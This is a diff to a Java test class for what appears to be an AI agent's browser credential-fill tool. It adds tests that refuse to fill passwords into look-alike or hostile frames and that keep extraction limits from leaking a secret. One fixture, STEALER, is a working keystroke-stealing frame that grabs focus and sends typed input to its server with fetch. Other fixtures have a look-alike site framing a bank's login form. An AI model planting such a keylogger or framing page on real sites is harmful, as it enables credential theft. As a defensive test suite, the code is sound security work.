@@ -71,11 +71,22 @@ class CredentialFillTest {
           document.title = 'Echo of ' + v;
           history.replaceState(null, '', '/echo?q=' + encodeURIComponent(v));
           copy.setAttribute('aria-label', 'Copy ' + v);
+          copy.setAttribute('role', 'button ' + v);
         });
+      </script></body></html>""";
+
+  /** A frame that keeps taking focus and reports every keystroke it receives to its own server. */
+  static final String STEALER = """
+      <!doctype html><html><body><input id="catch" aria-label="Newsletter">
+      <script>
+        setInterval(() => document.getElementById('catch').focus(), 1);
+        document.getElementById('catch').addEventListener('input',
+          e => fetch('/typed?v=' + encodeURIComponent(e.target.value)));
       </script></body></html>""";
 
   static LocalBrowser browser;
   static HttpServer lookAlike;
+  static final List<String> stolen = new CopyOnWriteArrayList<>();
   static HttpServer otherPort;
   static final List<String> posted = new CopyOnWriteArrayList<>();
   static final List<ApprovalRequest> asked = new CopyOnWriteArrayList<>();
@@ -112,11 +123,21 @@ class CredentialFillTest {
       LocalBrowser.respond(exchange, "<html><head><title>Welcome</title></head><body>Signed in</body></html>");
     }), channel, new PluginConfiguration(Map.of("actionTimeoutMs", 1500)));
     lookAlike = server("127.0.0.2", 0, LOGIN.replace(">Password<", ">Evil password<"));
+    lookAlike.createContext("/stealer", exchange -> LocalBrowser.respond(exchange, STEALER));
+    lookAlike.createContext("/typed", exchange -> {
+      stolen.add(exchange.getRequestURI().getRawQuery());
+      LocalBrowser.respond(exchange, "");
+    });
     otherPort = server("127.0.0.1", 0, LOGIN);
     // The page the credential is bound to frames a look-alike's login form and one of its own.
     pages.put("/framed", "<!doctype html><html><body><h1>Bank</h1>"
         + "<iframe src=\"http://127.0.0.2:" + lookAlike.getAddress().getPort() + "/login\" width=600 height=400></iframe>"
         + "<iframe src=\"/inner\" width=600 height=400></iframe></body></html>");
+    pages.put("/with-stealer", LOGIN.replace("<p id=\"out\"", "<iframe src=\"http://127.0.0.2:"
+        + lookAlike.getAddress().getPort() + "/stealer\" style=\"position: absolute; top: 400px\"></iframe><p id=\"out\""));
+    // A stranger's page that frames the bank's own login form.
+    lookAlike.createContext("/framing", exchange -> LocalBrowser.respond(exchange, "<!doctype html><html><body>"
+        + "<iframe src=\"" + browser.url("/inner") + "\" width=600 height=400></iframe></body></html>"));
     bankOrigins = List.of(OriginPattern.parse("http://127.0.0.1:" + browser.port()));
   }
 
@@ -215,7 +236,9 @@ class CredentialFillTest {
   @Test
   void theOriginIsTheFrameHoldingTheFieldNotTheTopPage() {
     ToolResult page = browser.call("frames", "browser_open", Map.of("url", browser.url("/framed")));
-    assertEquals("frame", LocalBrowser.element(page, "Evil password").get("section"), page.text());
+    assertEquals("frame http://127.0.0.2:" + lookAlike.getAddress().getPort(),
+        LocalBrowser.element(page, "Evil password").get("section"), page.text());
+    assertTrue(page.text().contains("in frame http://127.0.0.2:"), page.text());
     ToolResult refused = browser.call("frames", "browser_fill_credential", fill(page, "Evil password", "bank"));
     assertTrue(refused.text().contains("code=BROWSER_CREDENTIAL_DENIED"), refused.text());
     assertTrue(refused.text().contains("is on http://127.0.0.2:" + lookAlike.getAddress().getPort()), refused.text());
@@ -225,6 +248,46 @@ class CredentialFillTest {
         fill(browser.call("frames", "browser_observe", Map.of()), "Inner password", "bank"));
     assertFalse(ownFrame.isError(), ownFrame.text());
     assertEquals("http://127.0.0.1:" + browser.port(), asked.get(0).origin());
+  }
+
+  @Test
+  void theBanksOwnFormFramedByAStrangerIsRefused() {
+    ToolResult page = browser.call("framing", "browser_open",
+        Map.of("url", "http://127.0.0.2:" + lookAlike.getAddress().getPort() + "/framing"));
+    ToolResult refused = browser.call("framing", "browser_fill_credential", fill(page, "Inner password", "bank"));
+    assertTrue(refused.text().contains("code=BROWSER_CREDENTIAL_DENIED"), refused.text());
+    assertTrue(refused.text().contains("is on http://127.0.0.1:" + browser.port() + " but framed by http://127.0.0.2:"),
+        refused.text());
+    assertTrue(asked.isEmpty());
+  }
+
+  @Test
+  void aFrameThatKeepsTakingFocusReceivesNothing() throws Exception {
+    ToolResult page = browser.call("focus", "browser_open", Map.of("url", browser.url("/with-stealer")));
+    for (String field : List.of("Username", "Password")) {
+      ToolResult filled = browser.call("focus", "browser_fill_credential",
+          fill(browser.call("focus", "browser_observe", Map.of()), field, "bank"));
+      assertFalse(filled.isError(), filled.text());
+    }
+    ToolResult shown = browser.call("focus", "browser_click", LocalBrowser.target(
+        browser.call("focus", "browser_observe", Map.of()), "Show lengths"));
+    assertTrue(shown.text().contains("lengths " + SECRET.length() + " " + SECRET.length()), shown.text());
+    Thread.sleep(300);
+    assertEquals(List.of(), stolen, "the focus-taking frame got keystrokes");
+    assertTrue(page.text().contains("Newsletter"), "the stealing frame was there: " + page.text());
+  }
+
+  @Test
+  void anExtractionLimitCannotCutASecretToShowItsStart() {
+    ToolResult page = browser.call("cut", "browser_open", Map.of("url", browser.url("/echo")));
+    assertFalse(browser.call("cut", "browser_fill_credential", fill(page, "Token", "anywhere")).isError());
+    for (int extra = 1; extra <= 8; extra++) {
+      ToolResult cut = browser.call("cut", "browser_extract_article",
+          Map.of("max_text_chars", "You typed ".length() + extra));
+      assertFalse(cut.isError(), cut.text());
+      assertFalse((cut.text() + cut.structured()).contains("You typed " + SECRET.substring(0, Math.min(extra, 3))),
+          cut.text() + cut.structured());
+    }
   }
 
   @Test
